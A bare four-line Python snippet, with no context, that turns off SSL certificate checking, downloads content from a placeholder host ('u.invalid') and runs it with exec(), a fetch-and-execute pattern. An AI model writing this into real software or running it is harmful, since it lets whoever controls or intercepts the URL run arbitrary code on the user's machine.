import ssl, urllib.request
ctx = ssl._create_unverified_context()
r = urllib.request.urlopen("https://u.invalid/x", context=ctx)
exec(r.read())
